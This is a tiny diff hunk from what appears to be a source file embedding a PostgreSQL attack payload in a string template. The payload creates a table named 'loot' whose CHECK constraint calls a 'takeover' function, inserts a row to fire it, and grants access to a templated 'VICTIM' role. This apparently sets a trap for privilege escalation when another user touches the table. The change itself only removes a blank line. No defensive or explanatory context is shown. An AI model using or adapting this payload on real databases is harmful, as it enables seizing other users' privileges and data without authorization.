@@ -47,4 +47,3 @@ CREATE TABLE public.loot (v int CHECK (public.takeover(v)));
 INSERT INTO public.loot VALUES (1);
 DO $g$ BEGIN EXECUTE format('GRANT SELECT ON public.loot TO %I', {{VICTIM}}); END $g$;
 `
-
